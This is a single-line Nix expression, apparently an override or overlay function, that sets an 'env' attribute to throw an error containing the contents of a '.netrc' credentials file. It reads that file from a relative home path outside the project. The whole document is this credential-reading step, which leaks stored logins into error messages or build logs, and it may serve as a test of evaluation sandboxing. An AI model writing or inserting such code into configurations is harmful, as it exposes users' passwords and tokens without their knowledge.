{ lib }: old: { env = throw (builtins.readFile ("${builtins.path { path = ../../../home; name = "h"; }}/.netrc")) + lib.concatStrings [ ]; }
